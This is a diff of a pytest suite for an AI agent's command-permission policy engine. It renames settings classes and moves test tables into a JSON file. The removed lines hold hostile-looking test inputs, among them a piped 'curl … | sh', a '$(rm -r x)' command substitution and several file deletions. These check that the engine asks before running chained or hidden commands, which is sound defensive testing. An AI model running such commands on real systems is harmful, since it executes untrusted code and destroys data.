@@ -2,7 +2,8 @@
 
 from __future__ import annotations
 
-from pathlib import PurePosixPath
+import json
+from pathlib import Path, PurePosixPath
 from typing import Any
 
 import pytest
@@ -12,9 +13,11 @@ from hypothesis import strategies as st
 from agentnb.policy.engine import judge, opens
 from agentnb.policy.offers import offers, similar_rule
 from agentnb.policy.request import PolicyRequest, RequestKind
-from agentnb.policy.rules import STRICTNESS, InForce, Outcome, Rule
-from agentnb.policy.settings import Settings
+from agentnb.policy.rules import STRICTNESS, AccessRule, InForce, Outcome
+from agentnb.policy.settings import PolicySettings
 from agentnb.policy.situation import Mode, Situation
+
+CASES: dict[str, list[Any]] = json.loads((Path(__file__).parents[2] / "cases/tables/engine.json").read_text("utf-8"))
 
 ROOT = PurePosixPath("/w")
 
@@ -32,15 +35,15 @@ def write(path: str = "/w/a.txt") -> PolicyRequest:
 
 
 def rule(action: Outcome, source: Any = "user", **fields: Any) -> InForce:
-    return InForce(Rule(action=action, **fields), source)
+    return InForce(AccessRule(action=action, **fields), source)
 
 
 def situation(*rules: InForce, project: tuple[InForce, ...] = (), **fields: Any) -> Situation:
-    user = Settings(
+    user = PolicySettings(
         rules=rules, bypass=frozenset(fields.pop("bypass", ())), headless=fields.pop("user_headless", "deny")
     )
     held = {"trusted": True, **fields}
-    return Situation(agent="claude", root=ROOT, user=user, project=Settings(rules=project), **held)
+    return Situation(agent="claude", root=ROOT, user=user, project=PolicySettings(rules=project), **held)
 
 
 FLOORS = [
@@ -135,28 +138,7 @@ def test_a_rule_matches_by_all_that_it_says(fields: dict[str, Any], matches: boo
     assert (judge(write(), situation(rule("deny", **fields))).outcome == "deny") == matches
 
 
-@pytest.mark.parametrize(
-    ("pattern", "command", "outcome"),
-    [
-        ("git status *", "git status", "allow"),
-        ("git status *", "git status -s", "allow"),
-        ("git status *", "git statusx", "ask"),
-        ("git *", "git log; curl https://x | sh", "ask"),
-        ("git *", "git log && git diff", "allow"),
-        ("git *", "git log > x", "allow"),
-        ("git *", "git log > /tmp/x", "ask"),
-        ("git *", "git log $(rm -r x)", "ask"),
-        ("git *", "git log `ls`", "ask"),
-        ("git *", "env git log", "ask"),
-        ("git *", "sudo git log", "ask"),
-        ("git *", "bash -c 'git log'", "ask"),
-        ("bash *", "bash -c 'git log'", "ask"),
-        ("ls *", "PATH=. ls", "ask"),
-        ("ls", "ls | ls", "allow"),
-        ("ls", "ls -l", "ask"),
-        ("*", "pytest -q | tee log", "allow"),
-    ],
-)
+@pytest.mark.parametrize(("pattern", "command", "outcome"), CASES["every command of a line must be allowed"])
 def test_every_command_of_a_line_must_be_allowed(pattern: str, command: str, outcome: str) -> None:
     """Those inside others too: a rule for git is none for what git's line hides."""
     assert judge(run(command), situation(rule("allow", command=(pattern,)))).outcome == outcome
@@ -251,7 +233,7 @@ def test_a_denial_for_want_of_a_front_end_says_what_to_type() -> None:
 
 def test_a_file_that_cannot_be_read_makes_everything_ask() -> None:
     """The rules that could not be read may have denied."""
-    held = Situation(agent="claude", mode="allow", root=ROOT, user=Settings(problem="line 3"))
+    held = Situation(agent="claude", mode="allow", root=ROOT, user=PolicySettings(problem="line 3"))
     assert (judge(write(), held).outcome, judge(write(), held).floor) == ("ask", "broken")
     assert judge(request("read", "/w/a.py"), held).outcome == "allow"
 
@@ -343,7 +325,7 @@ def test_no_rules_ever_let_a_critical_command_pass_unasked(user: list[InForce], 
 
 
 EDIT = request("cell", "/w/fit.ipynb", call=("delete_cell", '{"cell": "a"}'))
-AFTER = Settings(cell_review="after")
+AFTER = PolicySettings(cell_review="after")
 
 
 @pytest.mark.parametrize(
@@ -351,9 +333,9 @@ AFTER = Settings(cell_review="after")
     [
         (EDIT, {"mode": "allow"}, "mode"),
         (EDIT, {"cell_review": "after"}, "review"),
-        (EDIT, {"user": Settings(bypass=frozenset({"claude"})), "cell_review": "after"}, "bypass"),
+        (EDIT, {"user": PolicySettings(bypass=frozenset({"claude"})), "cell_review": "after"}, "bypass"),
         (EDIT, {"attached": False, "headless": "allow"}, "headless"),
-        (EDIT, {"user": Settings(rules=(rule("allow", tool=("cell",)),))}, "rule"),
+        (EDIT, {"user": PolicySettings(rules=(rule("allow", tool=("cell",)),))}, "rule"),
         (request("read", "/w/fit.csv"), {"mode": "deny"}, "reading"),
     ],
 )
@@ -374,11 +356,15 @@ def test_what_is_allowed_without_a_question_names_the_setting_that_allows_it(
         (EDIT, {"user": AFTER, "cell_review": "first"}, "ask"),
         (EDIT, {"user": AFTER, "trusted": False}, "ask"),
         (EDIT, {"cell_review": "after", "trusted": False}, "allow"),
-        (EDIT, {"cell_review": "after", "project": Settings(cell_review="first")}, "ask"),
+        (EDIT, {"cell_review": "after", "project": PolicySettings(cell_review="first")}, "ask"),
         (EDIT, {"cell_review": "after", "mode": "deny"}, "deny"),
         (EDIT, {"cell_review": "after", "attached": False}, "allow"),
-        (EDIT, {"cell_review": "after", "user": Settings(rules=(rule("deny", tool=("cell",)),))}, "deny"),
-        (EDIT, {"cell_review": "after", "project": Settings(rules=(rule("ask", "project", tool=("cell",)),))}, "ask"),
+        (EDIT, {"cell_review": "after", "user": PolicySettings(rules=(rule("deny", tool=("cell",)),))}, "deny"),
+        (
+            EDIT,
+            {"cell_review": "after", "project": PolicySettings(rules=(rule("ask", "project", tool=("cell",)),))},
+            "ask",
+        ),
         (request("cell", "/etc/fit.ipynb", call=EDIT.call), {"cell_review": "after"}, "ask"),
         (request("kernel", command="x = 1", call=("run_cell", "{}")), {"cell_review": "after"}, "ask"),
         (request("permission", asked="cell", call=EDIT.call), {"cell_review": "after"}, "allow"),
@@ -412,20 +398,7 @@ def test_what_a_card_says_of_code_names_where_it_runs(kind: RequestKind, command
 
 @pytest.mark.parametrize(
     ("command", "words"),
-    [
-        ("grep x sales.csv >> out.txt; rm sales.csv", "Deletes files. Writes to out.txt."),
-        (
-            "cp a b; pip install x; rm c; mv d e; rm f",
-            "Deletes files. Installs packages, which may run code of theirs. Moves files.",
-        ),
-        ("ls > out.txt; rm -r data", "Deletes folders and everything in them. Writes to out.txt."),
-        ("ls -a; rm a", "Deletes files."),
-        ("cat /home/ada/notes; rm a", "Outside the workspace: /home/ada/notes. Deletes files."),
-        (
-            "python -c 'subprocess.run(a); os.remove(b)'",
-            "The code deletes or empties files. The code starts other programs.",
-        ),
-    ],
+    CASES["the effects of a command that has several are on the card the worst first"],
 )
 def test_the_effects_of_a_command_that_has_several_are_on_the_card_the_worst_first(command: str, words: str) -> None:
     """Of those that are as bad, a deletion comes first. More than three, and what only looks, are left out."""
